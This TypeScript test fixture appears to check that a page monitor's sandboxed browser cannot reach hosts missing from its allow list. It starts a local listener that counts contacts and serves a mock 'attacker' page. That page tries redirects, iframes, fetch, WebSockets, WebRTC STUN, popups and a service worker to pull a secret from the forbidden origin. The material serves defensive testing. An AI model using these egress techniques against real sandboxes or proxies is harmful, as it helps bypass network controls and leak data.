import { createHash } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import type { Server } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';

/** What the forbidden listener answers: it must never reach a stored page. */
export const FORBIDDEN_SECRET = 'FORBIDDEN-LISTENER-SECRET-5f1c9e';

export type ForbiddenListener = {
  port: number;
  origin: string;
  /** TCP connections (HTTP, WebSocket, tunnels) and UDP datagrams (STUN) received so far. */
  contacts: () => { tcp: number; udp: number; paths: string[] };
  reset: () => void;
  close: () => Promise<void>;
};

/**
 * A loopback service the allow list does NOT name (127.0.0.1 on a port of its own): answers HTTP
 * with FORBIDDEN_SECRET (CORS open, so a script could read it), accepts WebSocket upgrades, and
 * listens for UDP on the same port number. It counts every contact: a test expects zero.
 */
export async function startForbiddenListener(): Promise<ForbiddenListener> {
  let tcp = 0;
  let udp = 0;
  const paths: string[] = [];
  const sockets = new Set<Socket>();
  const server = createServer((req, res) => {
    paths.push(req.url ?? '');
    res.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' });
    res.end(`<p>${FORBIDDEN_SECRET}</p>`);
  });
  server.on('connection', (socket: Socket) => {
    tcp += 1;
    sockets.add(socket);
    socket.on('close', () => sockets.delete(socket));
  });
  server.on('upgrade', (req, socket: Socket) => {
    paths.push(`ws ${req.url ?? ''}`);
    socket.destroy();
  });
  // TCP and UDP on the same port number: retry until both are free.
  for (let attempt = 0; ; attempt += 1) {
    await listen(server, 0);
    const port = (server.address() as AddressInfo).port;
    const dgram = createSocket('udp4');
    const bound = await new Promise<boolean>((resolve) => {
      dgram.once('error', () => resolve(false));
      dgram.bind(port, '127.0.0.1', () => resolve(true));
    });
    if (bound) {
      dgram.on('message', () => {
        udp += 1;
      });
      return {
        port,
        origin: `http://127.0.0.1:${port}`,
        contacts: () => ({ tcp, udp, paths: [...paths] }),
        reset: () => {
          tcp = 0;
          udp = 0;
          paths.length = 0;
        },
        close: async () => {
          for (const socket of sockets) socket.destroy();
          await Promise.all([closeServer(server), new Promise<void>((resolve) => dgram.close(() => resolve()))]);
        },
      };
    }
    dgram.close();
    await closeServer(server);
    if (attempt > 20) throw new Error('No port free for both TCP and UDP');
  }
}

/** What the attacker's own (allowed) host answers to the child frame: it must get through. */
export const ALLOWED_MARK = 'ALLOWED-THROUGH-THE-PROXY';
export const ALLOWED_WS_MARK = 'ALLOWED-WEBSOCKET-THROUGH-THE-PROXY';

export type AttackerSite = { port: number; origin: string; hits: () => string[]; close: () => Promise<void> };

/**
 * A page on a host the allow list names (127.0.0.1:<its port>) that tries every way out of the
 * monitor's browser toward `forbidden` (an origin the allow list does not name): same-origin
 * redirects (`/r?to=…`) for a child frame's fetch, an iframe, a script, a stylesheet, an <object>,
 * an EventSource and the top frame's fetch; WebSockets from the child and the top; window.open;
 * WebRTC STUN; a service worker. Whatever a frame reads is written into the top document (the
 * child also reads `/allowed` from its own host, which must work: ALLOWED_MARK). After
 * 1.5 s the page shows `.price` (the test's wait selector), so every attempt has had its chance.
 */
export async function startAttackerSite(forbidden: string): Promise<AttackerSite> {
  const wsForbidden = forbidden.replace(/^http/, 'ws');
  const via = (path: string) => `/r?to=${encodeURIComponent(forbidden + path)}`;
  const top = `<!doctype html><html><head><title>Attacker</title>
<link rel="stylesheet" href="${via('/style.css')}">
<script src="${via('/script.js')}"></script>
</head><body><h1>Product</h1>
<iframe src="/child"></iframe>
<iframe src="${via('/frame')}"></iframe>
<object data="${via('/object')}" type="text/html"></object>
<script>
const put = (t) => document.body.insertAdjacentHTML('beforeend', '<pre class="leak">' + t + '</pre>');
fetch(${JSON.stringify(via('/top-fetch'))}).then((r) => r.text()).then(put).catch(() => {});
try { new EventSource(${JSON.stringify(via('/events'))}); } catch (e) {}
try { const ws = new WebSocket(${JSON.stringify(`${wsForbidden}/top-ws`)}); ws.onmessage = (e) => put(e.data); } catch (e) {}
try { const w = window.open(${JSON.stringify(`${forbidden}/popup`)}); if (w) w.onload = () => put(w.document.body.innerHTML); } catch (e) {}
try {
  const pc = new RTCPeerConnection({ iceServers: [{ urls: ${JSON.stringify(`stun:${new URL(forbidden).host}`)} }] });
  pc.createDataChannel('x');
  pc.createOffer().then((o) => pc.setLocalDescription(o)).catch(() => {});
} catch (e) {}
try { navigator.serviceWorker.register('/sw.js').catch(() => {}); } catch (e) {}
setTimeout(() => document.body.insertAdjacentHTML('beforeend', '<span class="price">12,00 €</span>'), 1500);
</script></body></html>`;
  const child = `<!doctype html><html><body><script>
const put = (t) => window.top.document.body.insertAdjacentHTML('beforeend', '<pre class="leak">' + t + '</pre>');
fetch(${JSON.stringify(via('/x'))}).then((r) => r.text()).then(put).catch(() => {});
fetch('/allowed').then((r) => r.text()).then(put).catch(() => {});
try { const own = new WebSocket('ws://' + location.host + '/ws'); own.onmessage = (e) => put(e.data); } catch (e) {}
try { const ws = new WebSocket(${JSON.stringify(`${wsForbidden}/child-ws`)}); ws.onmessage = (e) => put(e.data); } catch (e) {}
</script></body></html>`;
  const hits: string[] = [];
  const server = createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://attacker.local');
    hits.push(url.pathname);
    const send = (type: string, body: string) => {
      res.writeHead(200, { 'content-type': type, 'cache-control': 'no-store' });
      res.end(body);
    };
    if (url.pathname === '/') return send('text/html; charset=utf-8', top);
    if (url.pathname === '/child') return send('text/html; charset=utf-8', child);
    if (url.pathname === '/sw.js') return send('text/javascript', `self.addEventListener('install', () => fetch(${JSON.stringify(`${forbidden}/sw`)}));`);
    if (url.pathname === '/allowed') return send('text/plain', ALLOWED_MARK);
    if (url.pathname === '/robots.txt') return send('text/plain', 'User-agent: *\nAllow: /\n');
    if (url.pathname === '/r') {
      res.writeHead(302, { location: url.searchParams.get('to') ?? '/', 'cache-control': 'no-store' });
      return res.end();
    }
    res.writeHead(404);
    res.end();
  });
  // A WebSocket on the allowed host: it must work through the proxy, and says ALLOWED_WS_MARK.
  const upgraded = new Set<Socket>();
  server.on('upgrade', (req, socket: Socket) => {
    hits.push(`ws ${req.url ?? ''}`);
    upgraded.add(socket);
    socket.on('close', () => upgraded.delete(socket));
    const accept = createHash('sha1')
      .update(`${String(req.headers['sec-websocket-key'])}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`)
      .digest('base64');
    socket.write(`HTTP/1.1 101 Switching Protocols\r\nupgrade: websocket\r\nconnection: Upgrade\r\nsec-websocket-accept: ${accept}\r\n\r\n`);
    socket.write(Buffer.concat([Buffer.from([0x81, ALLOWED_WS_MARK.length]), Buffer.from(ALLOWED_WS_MARK)]));
    socket.on('error', () => socket.destroy());
  });
  await listen(server, 0);
  const port = (server.address() as AddressInfo).port;
  return {
    port,
    origin: `http://127.0.0.1:${port}`,
    hits: () => [...hits],
    close: async () => {
      server.closeAllConnections();
      for (const socket of upgraded) socket.destroy();
      await closeServer(server);
    },
  };
}

function listen(server: Server, port: number): Promise<void> {
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(port, '127.0.0.1', () => {
      server.off('error', reject);
      resolve();
    });
  });
}

function closeServer(server: Server): Promise<void> {
  return new Promise((resolve) => server.close(() => resolve()));
}
